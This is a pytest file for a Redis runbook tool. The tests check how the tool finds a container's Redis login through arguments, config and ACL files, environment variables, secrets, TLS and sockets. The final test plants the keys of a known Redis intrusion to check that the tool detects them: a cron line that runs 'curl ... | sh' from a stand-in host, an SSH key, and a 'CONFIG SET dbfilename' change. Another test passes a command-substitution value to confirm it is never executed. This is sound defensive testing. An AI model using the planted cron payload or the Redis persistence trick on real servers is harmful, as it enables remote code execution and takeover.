"""How a real server is reached, and which login of its own container it takes."""

from __future__ import annotations

import os
import subprocess
import tempfile
from hashlib import sha256
from pathlib import Path

import pytest

from pyinfra_runbooks.core.answers import AnswerError
from pyinfra_runbooks.engine import shell
from pyinfra_runbooks.packs.redis.login import Login
from pyinfra_runbooks.packs.redis.server import Server
from pyinfra_runbooks.settings import EnvironmentVariable, InContainer, Redis, Tls
from tests.redis.reached import CLIENTS, PROGRAMS, Container, program, running

pytestmark = [pytest.mark.needs(*CLIENTS), pytest.mark.needs(*PROGRAMS)]

PORT = 16390
NUMBER = str(PORT)
PASSWORD = 'p "w" \\x\'y$HOME%s'
HERE = ("-p", NUMBER)


def seen(place: Path, options: list[str], redis: Redis | None = None, **environment: str) -> Server:
    """A server with these options, on a port, as a look sees it; its container has them too."""
    with running(place, "--port", NUMBER, *options, ask=HERE):
        container = Container(place, ["redis-server", "--port", NUMBER, *options])
        container.environment = environment
        return container.looked_at(redis or Redis())


def assert_judged(server: Server) -> None:
    """Everything that is asked was answered."""
    assert server.authenticated
    assert server.info["redis_mode"] == "standalone"
    assert server.config is not None
    assert set(server.config) == {"aclfile", "dir", "dbfilename", "save"}
    assert server.refused == ()
    assert server.login_sent


# Arguments


def test_no_login_is_needed(tmp_path: Path) -> None:
    server = seen(tmp_path, [])
    assert_judged(server)
    assert server.open
    assert server.login == Login()
    assert server.reach == HERE


def test_a_literal(tmp_path: Path) -> None:
    server = seen(tmp_path, ["--requirepass", PASSWORD])
    assert_judged(server)
    assert not server.open
    assert server.login == Login("default", "--requirepass")


SHELL = {
    "a variable": ('--requirepass "$PW"', "$PW"),
    "a variable in braces": ("--requirepass ${PW}", "$PW"),
    "one with a default": ('--requirepass "${PW:-other}"', "$PW"),
    "a default": ("--requirepass ${NONE:-secret7}", "--requirepass"),
    "a default in quotes": ("--requirepass ${NONE:-'secret7'}", "--requirepass"),
    "a file": ('--requirepass "$(cat "$PW_FILE")"', "$PW_FILE"),
    "a file in backquotes": ("--requirepass `cat $PW_FILE`", "$PW_FILE"),
    "a file by its path": ("--requirepass $(cat {}/pw)", "{}/pw"),
}


@pytest.mark.parametrize(("words", "by"), SHELL.values(), ids=SHELL)
def test_a_line_of_shell(tmp_path: Path, words: str, by: str) -> None:
    (tmp_path / "pw").write_text("secret7\n\n", encoding="utf-8")
    words, by = (text.replace("{}", str(tmp_path)) for text in (words, by))
    with running(tmp_path, "--port", NUMBER, "--requirepass", "secret7", ask=HERE):
        line = f"umask 077; exec redis-server --port {PORT} {words} --appendonly no"
        container = Container(tmp_path, ["sh", "-c", line])
        container.environment = {"PW": "secret7", "PW_FILE": f"{tmp_path}/pw"}
        server = container.looked_at(Redis())
    assert_judged(server)
    assert server.login == Login("default", by)


@pytest.mark.parametrize(
    "assigned", ["PW=$(cat {}/pw); ", "export PW=`cat {}/pw` && ", 'PW="$(cat {}/pw)" ']
)
def test_a_variable_that_the_line_itself_sets(tmp_path: Path, assigned: str) -> None:
    (tmp_path / "pw").write_text(PASSWORD, encoding="utf-8")
    line = f'{assigned.replace("{}", str(tmp_path))}redis-server --requirepass "$PW"'
    with running(tmp_path, "--port", NUMBER, "--requirepass", PASSWORD, ask=HERE):
        server = Container(tmp_path, ["sh", "-c", f"{line} --port {PORT}"]).looked_at(Redis())
    assert server.login == Login("default", "$PW")


def test_what_another_command_prints_is_not_known(tmp_path: Path) -> None:
    with running(tmp_path, "--port", NUMBER, "--requirepass", "x", ask=HERE):
        line = f"redis-server --port {PORT} --requirepass $(touch {tmp_path}/canary; echo x)"
        server = Container(tmp_path, ["sh", "-c", line]).looked_at(Redis())
    assert not server.authenticated
    assert server.login == Login(unseen=("--requirepass",))
    assert not (tmp_path / "canary").exists()


# Configuration and ACL


CONFIGURED = {
    "plain": ("requirepass secret7", "secret7"),
    "in capitals": ("  RequirePass\tsecret7  ", "secret7"),
    "in quotes": (r'requirepass "p \"w\" \\ \x41"', 'p "w" \\ A'),
    "in single quotes": ("requirepass 'p \"w'", 'p "w'),
    "the last one": ("requirepass other\nrequirepass secret7", "secret7"),
    "of windows": ("requirepass secret7\r", "secret7"),
}


@pytest.mark.parametrize(("text", "password"), CONFIGURED.values(), ids=CONFIGURED)
def test_a_configuration(tmp_path: Path, text: str, password: str) -> None:
    file = tmp_path / "redis.conf"
    file.write_text(f"# requirepass no\nport {PORT}\n{text}\nhunter2\n", encoding="utf-8")
    with running(tmp_path, "--port", NUMBER, "--requirepass", password, ask=HERE):
        container = Container(tmp_path, ["redis-server", str(file)])
        server = container.looked_at(Redis())
        assert "hunter2" not in "\n".join(container.said(Redis()))
    assert_judged(server)
    assert server.login == Login("default", str(file))
    assert server.reach == HERE


def test_what_a_configuration_includes_and_an_option_that_overrules_it(tmp_path: Path) -> None:
    (tmp_path / "conf.d").mkdir()
    (tmp_path / "conf.d" / "a.conf").write_text("requirepass secret7\nport 1\n", encoding="utf-8")
    file = tmp_path / "redis.conf"
    file.write_text(f'include "{tmp_path}/conf.d/*.conf"\n', encoding="utf-8")
    with running(tmp_path, "--port", NUMBER, "--requirepass", "secret7", ask=HERE):
        container = Container(tmp_path, ["redis-server", str(file), "--port", NUMBER])
        server = container.looked_at(Redis())
    assert server.login == Login("default", f"{tmp_path}/conf.d/a.conf")
    assert server.reach == HERE


@pytest.mark.parametrize("inside", [True, False], ids=["a configuration", "an ACL file"])
def test_a_clear_password_of_a_user(tmp_path: Path, inside: bool) -> None:
    users = (
        "user default off\nuser less on >other ~* +get\nuser ops on >p%s$\x27x ~* &* +@all\n"
        f"user hashed on #{'0' * 64} +@all\nuser off off >x +@all\n"
    )
    if inside:
        users = users.replace("\x27", "")
    acl, file = tmp_path / "users.acl", tmp_path / "redis.conf"
    (file if inside else acl).write_text(users, encoding="utf-8")
    words = [str(file)] if inside else ["--aclfile", str(acl)]
    with running(tmp_path, *words, "--port", NUMBER, ask=HERE):
        container = Container(tmp_path, ["redis-server", *words, "--port", NUMBER])
        server = container.looked_at(Redis())
    assert_judged(server)
    assert server.login == Login("ops", str(file if inside else acl))


# Environment and secrets


@pytest.mark.parametrize("name", ["REDIS_PASSWORD", "VALKEY_PASSWORD", "REDIS_HOST_PASSWORD"])
def test_a_variable_of_its_environment(tmp_path: Path, name: str) -> None:
    with running(tmp_path, "--port", NUMBER, "--requirepass", PASSWORD, ask=HERE):
        container = Container(tmp_path, ["--port", NUMBER])
        container.environment = {"OTHER_PASSWORD": "no", name: PASSWORD, "REDISCLI_AUTH": "no"}
        server = container.looked_at(Redis())
    assert_judged(server)
    assert server.login.by == f"${name}"


def test_a_file_that_its_environment_names(tmp_path: Path) -> None:
    (tmp_path / "pw").write_text(f"{PASSWORD}\n", encoding="utf-8")
    with running(tmp_path, "--port", NUMBER, "--requirepass", PASSWORD, ask=HERE):
        container = Container(tmp_path, ["redis-server", "--port", NUMBER])
        container.environment = {"REDIS_PASSWORD_FILE": f"{tmp_path}/pw"}
        server = container.looked_at(Redis())
    assert server.login == Login("default", "REDIS_PASSWORD_FILE")


def test_what_the_inventory_names_overrules_the_rest(tmp_path: Path) -> None:
    (tmp_path / "pw").write_text("secret7", encoding="utf-8")
    environment = {"MINE": "secret7", "REDIS_PASSWORD": "wrong"}
    with running(tmp_path, "--port", NUMBER, "--requirepass", "secret7", ask=HERE):
        words = ["redis-server", "--port", NUMBER, "--requirepass", "wrong"]
        container = Container(tmp_path, words, environment=environment)
        by_variable = container.looked_at(Redis(password=InContainer(variable="MINE")))
        by_file = container.looked_at(Redis(password=InContainer(file=f"{tmp_path}/pw")))
        by_none = container.looked_at(Redis(password=InContainer(variable="NONE")))
        by_itself = container.looked_at(Redis())
    assert by_variable.login == Login("default", "$MINE")
    assert by_file.login == Login("default", f"{tmp_path}/pw")
    assert by_none.login == Login(unseen=("$NONE",))
    assert by_itself.login == Login(refused=("--requirepass",))


def test_what_is_no_small_file_is_not_read(tmp_path: Path) -> None:
    """A pipe without a writer, a device, a directory, a large file."""
    os.mkfifo(tmp_path / "pipe")
    (tmp_path / "large").write_text("x" * 5000, encoding="utf-8")
    with running(tmp_path, "--port", NUMBER, "--requirepass", "secret7", ask=HERE):
        for path in (tmp_path / "pipe", Path("/dev/zero"), tmp_path, tmp_path / "large"):
            line = f"redis-server {path} --port {PORT} --requirepass $(cat {path})"
            server = Container(tmp_path, ["sh", "-c", line]).looked_at(Redis())
            assert not server.authenticated
            assert server.login == Login(unseen=(str(path),))


def test_no_password_is_shown(tmp_path: Path) -> None:
    with running(tmp_path, "--port", NUMBER, "--requirepass", "secret7", ask=HERE):
        for given in ("secret7", "wrong77"):
            container = Container(tmp_path, ["--port", NUMBER, "--requirepass", given])
            said = "\n".join(container.said(Redis()))
            assert given not in said
            assert "".join(f"\\x{ord(c):02x}" for c in given) not in said


# Ways to reach it


def test_a_socket(tmp_path: Path) -> None:
    socket = str(tmp_path / "redis.sock")
    options = ["--port", "0", "--unixsocket", socket, "--requirepass", PASSWORD]
    with running(tmp_path, *options, ask=("-s", socket)):
        found = Container(tmp_path, ["redis-server", *options]).looked_at(Redis())
        declared = Container(tmp_path, ["start.sh"], environment={"REDIS_PASSWORD": PASSWORD})
        named = declared.looked_at(Redis(socket=socket))
    for server in (found, named):
        assert_judged(server)
        assert server.reach == ("-s", socket)
        assert server.login.user == "default"


def test_the_port_of_its_service(tmp_path: Path) -> None:
    options = ["--port", NUMBER, "--requirepass", PASSWORD]
    with running(tmp_path, *options, ask=HERE):
        container = Container(tmp_path, ["start.sh"], environment={"REDIS_PASSWORD": PASSWORD})
        server = container.looked_at(Redis(), port=PORT)
    assert_judged(server)
    assert server.reach == HERE


@pytest.mark.needs("mount")
@pytest.mark.needs("unshare")
def test_a_secret_that_compose_mounts(tmp_path: Path) -> None:
    container = Container(tmp_path, ["start.sh", "--port", NUMBER])
    mounted = "mount -t tmpfs none /run && mkdir /run/secrets && cd /run/secrets"
    written = 'printf "secret7\\n" >redis_password && echo x >key && cd / && "$@"'
    container.within = f"exec unshare --mount sh -c '{mounted} && {written}' sh \"$@\""
    with running(tmp_path, "--port", NUMBER, "--requirepass", "secret7", ask=HERE):
        server = container.looked_at(Redis(), port=PORT)
    assert_judged(server)
    assert server.login == Login("default", "/run/secrets/redis_password")


@pytest.mark.needs("mount")
@pytest.mark.needs("unshare")
@pytest.mark.parametrize(
    ("mounted", "login"),
    [
        (("app_key", "ops_key", "other"), Login("ops", "/run/secrets/ops_key")),
        (("app_key", "other"), Login("app", "/run/secrets/app_key")),
        (("other",), Login()),
    ],
)
def test_a_secret_whose_hash_a_user_has(
    tmp_path: Path, mounted: tuple[str, ...], login: Login
) -> None:
    """That pairs the two: no name has to, and nothing is tried that is not known to be right."""
    keys = {"app_key": "secret'7", "ops_key": "secret 8", "other": "secret9"}
    digests = {name: sha256(key.encode()).hexdigest() for name, key in keys.items()}
    acl = tmp_path / "users.acl"
    acl.write_text(
        f"user default off\nuser app on #{'0' * 64} #{digests['app_key']} ~* +get +info\n"
        f"user ops on #{digests['ops_key']} ~* &* +@all\nuser off off #{digests['other']} +@all\n",
        encoding="utf-8",
    )
    for name in mounted:
        (tmp_path / name).write_text(f"{keys[name]}\n", encoding="utf-8")
    files = " ".join(str(tmp_path / name) for name in mounted)
    there = f"mount -t tmpfs none /run && mkdir /run/secrets && cp {files} /run/secrets"
    words = ["--aclfile", str(acl), "--port", NUMBER]
    container = Container(tmp_path, ["redis-server", *words])
    container.within = f'exec unshare --mount sh -c \'{there} && "$@"\' sh "$@"'
    with running(tmp_path, *words, ask=HERE):
        server = container.looked_at(Redis(), port=PORT)
        ask = [program(CLIENTS), *HERE, "--user", "ops", "--pass", keys["ops_key"], "ACL", "LOG"]
        refused = subprocess.run(ask, capture_output=True, check=True, text=True).stdout
    assert server.login == login
    assert "auth" not in refused


def test_another_address(tmp_path: Path) -> None:
    options = ["--port", NUMBER, "--bind", "127.0.0.2", "--requirepass", PASSWORD]
    there = ("-p", NUMBER, "-h", "127.0.0.2")
    with running(tmp_path, *options, ask=there):
        container = Container(tmp_path, ["redis-server", *options])
        found = container.looked_at(Redis())
        declared = container.looked_at(Redis(address="127.0.0.2", port=PORT))
    for server in (found, declared):
        assert_judged(server)
        assert server.reach == there


@pytest.fixture(scope="module")
def certificates(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """An authority, a server's certificate and a client's."""
    place = tmp_path_factory.mktemp("tls")
    new = ["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "2"]
    ca = ["-subj", "/CN=ca", "-keyout", "ca.key", "-out", "ca.crt"]
    subprocess.run([*new, *ca], cwd=place, check=True, capture_output=True)
    for name in ("server", "client"):
        own = ["-subj", f"/CN={name}", "-keyout", f"{name}.key", "-out", f"{name}.crt"]
        by = ["-CA", "ca.crt", "-CAkey", "ca.key"]
        subprocess.run([*new, *own, *by], cwd=place, check=True, capture_output=True)
    return place


@pytest.mark.needs("openssl")
@pytest.mark.parametrize("clients", ["yes", "no"])
def test_tls_only(tmp_path: Path, certificates: Path, clients: str) -> None:
    """As its arguments say, and as the inventory does; with a client's certificate or without."""
    of = {name: str(certificates / name) for name in os.listdir(certificates)}
    options = ["--port", "0", "--tls-port", NUMBER, "--tls-auth-clients", clients]
    options += ["--tls-ca-cert-file", of["ca.crt"], "--requirepass", PASSWORD]
    options += ["--tls-cert-file", of["server.crt"], "--tls-key-file", of["server.key"]]
    client = ("--cacert", of["ca.crt"], "--cert", of["client.crt"], "--key", of["client.key"])
    tls = Tls(ca=of["ca.crt"], cert=of["client.crt"], key=of["client.key"])
    with running(tmp_path, *options, ask=("--tls", *client, "-p", NUMBER)):
        container = Container(tmp_path, ["redis-server", *options])
        found = container.looked_at(Redis())
        declared = container.looked_at(Redis(port=PORT, tls=tls))
        without = Redis(port=PORT, tls=Tls(ca=of["ca.crt"]))
        if clients == "yes":
            with pytest.raises(AnswerError, match="Redis does not answer: Error: "):
                container.looked_at(without)
        else:
            assert_judged(container.looked_at(without))
    for server in (found, declared):
        assert_judged(server)
        assert server.login == Login("default", "--requirepass")


# A network that it shares

OTHER = "16391"
HOST = {"shared": "yes"}


def test_on_the_hosts_network_its_own_server_gets_its_login(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    options = ["--port", NUMBER, "--requirepass", "secret7"]
    with running(tmp_path, *options, ask=HERE):
        container = Container(tmp_path, ["redis-server", *options])
        monkeypatch.setenv("PW", "secret7")
        server = container.looked_at(Redis(), **HOST)
        declared = container.looked_at(Redis(password=EnvironmentVariable("PW")), **HOST)
    assert_judged(server)
    assert server.login == Login("default", "--requirepass")
    assert_judged(declared)
    assert declared.logins == {"default": True}


@pytest.mark.needs("root")
@pytest.mark.needs("unshare")
@pytest.mark.parametrize("serves", ["elsewhere", "nowhere"])
def test_no_other_server_there_gets_it(
    tmp_path: Path, serves: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """What its arguments name is another container's port; its own server listens on another one,
    or has not come up."""
    own = f"{program(PROGRAMS)} --port {OTHER} --save '' --dir {tmp_path} >/dev/null & sleep 0.5"
    besides = own if serves == "elsewhere" else ":"
    arguments = ["redis-server", "--port", NUMBER, "--requirepass", "mine777"]
    container = Container(tmp_path, arguments)
    container.within = f'{_ALONE} sh -c {shell.words(_AND.format(besides))} sh "$@"'
    with running(tmp_path, "--port", NUMBER, "--requirepass", "theirs7", ask=HERE):
        monkeypatch.setenv("PW", "mine777")
        server = container.looked_at(Redis(), **HOST)
        declared = container.looked_at(Redis(password=EnvironmentVariable("PW")), **HOST)
        asked = [program(CLIENTS), *HERE, "-a", "theirs7", "--no-auth-warning", "ACL", "LOG"]
        log = subprocess.run(asked, capture_output=True, text=True, check=True).stdout
    for looked in (server, declared):
        assert not looked.login_sent
        assert not looked.authenticated
        assert looked.login == Login()
    assert log.strip() == ""


_ALONE, _AND = "exec unshare --pid --fork --mount-proc", '{}; "$@"'


@pytest.mark.needs("root")
@pytest.mark.needs("unshare")
def test_a_socket_of_another_containers_server_gets_none(tmp_path: Path) -> None:
    """They share the volume, and no network."""
    socket = str(tmp_path / "redis.sock")
    options = ["--unixsocket", socket, "--port", "0", "--requirepass"]
    container = Container(tmp_path, [*options, "mine777"])
    container.within = 'exec unshare --net "$@"'
    with running(tmp_path, *options, "theirs7", ask=("-s", socket)):
        server = container.looked_at(Redis())
    assert not server.login_sent
    assert server.login == Login()


@pytest.mark.needs("root")
@pytest.mark.needs("setpriv")
def test_a_socket_that_only_its_own_user_may_use() -> None:
    """Who asks may become that user, and may not pass over permissions, as in a container that has
    dropped what it can."""
    user = ["setpriv", "--reuid", "4711", "--regid", "4711", "--clear-groups"]
    with tempfile.TemporaryDirectory() as name:
        place = Path(name)
        place.chmod(0o755)
        os.chown(place, 4711, 4711)
        socket = str(place / "redis.sock")
        options = ["--port", "0", "--unixsocket", socket, "--unixsocketperm", "700"]
        options += ["--requirepass", "secret7"]
        container = Container(place, ["redis-server", *options])
        bounds = "-dac_override,-dac_read_search"
        container.within = f'exec setpriv --bounding-set {bounds} -- "$@"'
        with running(place, *options, ask=("-s", socket), before=user):
            server = container.looked_at(Redis())
    assert_judged(server)
    assert server.login == Login("default", "--requirepass")


# Rights


@pytest.mark.parametrize("command", ["CONFIG", "INFO", "ECHO", "ACL", "PING"])
def test_a_disabled_command(tmp_path: Path, command: str) -> None:
    server = seen(tmp_path, ["--rename-command", command, "", "--requirepass", PASSWORD])
    assert server.authenticated
    assert (server.info == {}) is (command == "INFO")
    assert (server.config is None) is (command == "CONFIG")
    assert (server.users == frozenset()) is (command == "ACL")
    assert server.refused == {
        "CONFIG": ("CONFIG GET",),
        "INFO": ("INFO",),
        "ACL": ("ACL USERS", "ACL GETUSER"),
    }.get(command, ())


def test_a_user_that_may_do_little(tmp_path: Path) -> None:
    acl = tmp_path / "users.acl"
    acl.write_text("user default off\nuser app on >secret7 ~* +get +info\n", encoding="utf-8")
    server = seen(tmp_path, ["--aclfile", str(acl)])
    assert server.authenticated
    assert server.login == Login("app", str(acl))
    assert server.info["redis_mode"] == "standalone"
    assert server.config is None
    assert server.refused


def test_an_intruders_key_is_named_and_not_shown(tmp_path: Path) -> None:
    """Whatever it holds stays here; no other key is read."""
    cron = "\n\n*/2 * * * * root curl -s http://203.0.113.9/hunter2 | sh\n\n"
    options = ["--port", NUMBER, "--enable-protected-configs", "yes"]
    with running(tmp_path, *options, ask=("-p", NUMBER)):
        ask = [program(CLIENTS), "-p", NUMBER]
        for words in (
            ("SET", "backup1", cron),
            ("SET", "crackit", "\nssh-rsa AAAAB3Nza x@y\n"),
            ("SET", "backup2", "hunter2"),
            ("RPUSH", "backup3", "hunter2"),
            ("CONFIG", "SET", "dbfilename", "root"),
        ):
            subprocess.run([*ask, *words], check=True, capture_output=True)
        container = Container(tmp_path, ["redis-server", *options])
        server = container.looked_at(Redis())
        said = container.said(Redis())
    assert server.planted == {"backup1": "a crontab line", "crackit": "an SSH key"}
    assert server.config is not None
    assert server.config["dbfilename"] == "root"
    assert server.number_of("config|set") == 1
    assert server.modules == ()
    assert "hunter2" not in "\n".join(said)
